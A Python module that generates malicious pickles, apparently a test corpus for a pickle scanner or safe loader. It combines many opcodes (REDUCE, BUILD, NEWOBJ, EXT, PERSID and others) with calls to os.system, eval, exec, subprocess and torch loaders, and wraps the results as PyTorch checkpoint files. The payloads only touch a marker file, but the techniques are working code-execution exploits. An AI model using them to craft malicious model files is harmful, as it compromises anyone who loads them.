"""Pickles that run code in a plain unpickler, by each opcode that calls; written by hand, opcode by opcode."""

import io
import pickle
import struct
import zipfile

PROTOCOL = b"\x80\x04"


def text(value):
    data = value.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def named(module, name):
    """GLOBAL."""
    return f"c{module}\n{name}\n".encode()


def on_stack(module, name):
    """STACK_GLOBAL."""
    return text(module) + text(name) + b"\x93"


def calls(mark):
    """Ways to make ``mark``, the path of a file: functions, each with its argument."""
    write = f"open({mark!r}, 'w').close()"
    return {
        "os.system": ("os", "system", f"touch {mark}"), "posix.system": ("posix", "system", f"touch {mark}"),
        "eval": ("builtins", "eval", write), "exec": ("builtins", "exec", write),
        "old eval": ("__builtin__", "eval", write),
        "subprocess": ("subprocess", "getoutput", f"touch {mark}"), "mkdir": ("os", "mkdir", str(mark)),
        "runpy": ("runpy", "run_path", str(mark)), "torch.load": ("torch.serialization", "load", str(mark)),
        "pty": ("pty", "spawn", f"/usr/bin/touch {mark}"), "pathlib": ("os", "makedirs", str(mark)),
        "jit": ("torch.jit", "load", str(mark)), "hub": ("torch.hub", "load", str(mark)),
        "dotted": ("torch", "serialization.os.system", f"touch {mark}"),
        "of storages": ("torch.storage", "_load_from_bytes", f"touch {mark}"),
        "of an allowed module": ("torch._utils", "_import_dotted_name", "os.system"),
    }  # fmt: skip


def opcodes(function, argument):
    """Pickles that call a function with an argument, by opcode."""
    module, name = function
    arg = text(argument)
    state = b"}" + text("x") + arg + b"s"
    return {
        "REDUCE": named(module, name) + arg + b"\x85R.",
        "REDUCE, STACK_GLOBAL": on_stack(module, name) + arg + b"\x85R.",
        "OBJ": b"(" + named(module, name) + arg + b"o.",
        "INST": b"(" + arg + f"i{module}\n{name}\n".encode() + b".",
        "NEWOBJ": named(module, name) + arg + b"\x85\x81.",
        "NEWOBJ_EX": on_stack(module, name) + arg + b"\x85}\x92.",
        "BUILD, __setstate__": named("collections", "OrderedDict") + b")R"
        + b"}" + text("__setstate__") + named(module, name) + b"sb" + arg + b"b.",
        "BUILD, on the function": named(module, name) + b"N" + state + b"\x86b.",
        "BUILD, on a class": named("collections", "OrderedDict") + b"N}" + text("update") + named(module, name)
        + b"s\x86b.",
        "BUILD, on torch's rebuilding": named("torch._utils", "_rebuild_tensor_v2") + b"N}" + text("__defaults__")
        + named(module, name) + b"\x85s\x86b.",
        "BUILD, on torch's class": named("torch", "FloatStorage") + b"N}" + text("planted") + named(module, name)
        + b"s\x86b.",
        "BUILD, on Tensor": named("torch", "Tensor") + b"N}" + text("planted") + named(module, name) + b"s\x86b.",
        "APPEND": named(module, name) + arg + b"a.",
        "APPENDS": named(module, name) + b"(" + arg + b"e.",
        "SETITEM": named(module, name) + arg + arg + b"s.",
        "ADDITEMS": named(module, name) + b"(" + arg + b"\x90.",
        "EXT1": b"\x82\x01" + arg + b"\x85R.",
        "EXT2": b"\x83\x01\x00" + arg + b"\x85R.",
        "EXT4": b"\x84\x01\x00\x00\x00" + arg + b"\x85R.",
        "PERSID": b"P" + argument.encode() + b"\n.",
        "BINPERSID": arg + b"Q.",
        "BINPERSID, a function": b"(" + text("storage") + named(module, name) + arg + text("cpu") + b"K\x01tQ.",
        "a chain": named("functools", "partial") + named(module, name) + arg + b"\x86R)R.",
        "getattr": named("builtins", "getattr") + named(module, name) + text("__call__") + b"\x86R" + arg + b"\x85R.",
        "apply, by map": named("builtins", "list") + named("builtins", "map") + named(module, name) + b"(" + arg
        + b"l\x86R\x85R.",
        "as type": named("torch._tensor", "_rebuild_from_type_v2") + b"(" + named(module, name)
        + named("torch", "Tensor") + arg + b"\x85NtR.",
        "as layout": named("torch._utils", "_rebuild_sparse_tensor") + named(module, name) + arg + b"\x85\x86R.",
        "as key": b"}" + named(module, name) + arg + b"\x85R" + arg + b"s.",
    }  # fmt: skip


def corpus(mark):
    """Name and bytes of each pickle."""
    for call, (module, name, argument) in calls(mark).items():
        for opcode, body in opcodes((module, name), argument).items():
            yield f"{call}: {opcode}", PROTOCOL + body


def as_zip(body):
    """As torch since 1.6 wraps a pickle."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("archive/data.pkl", body)
        archive.writestr("archive/byteorder", b"little")
        archive.writestr("archive/data/0", bytes(64))
        archive.writestr("archive/version", b"3\n")
    return buffer.getvalue()


def as_legacy(body):
    """As torch before 1.6 writes one: a magic number, a protocol and the machine, then the object and its storages."""
    head = [pickle.dumps(value, 2) for value in (0x1950A86A20F9469CFC6C, 1001, {"little_endian": True})]
    return b"".join([*head, body, pickle.dumps([], 2)])


def as_first(body):
    """Where torch expects the magic number."""
    return body + bytes(40)


WRAPPINGS = {"zip": as_zip, "legacy": as_legacy, "first": as_first, "bare": lambda body: body}
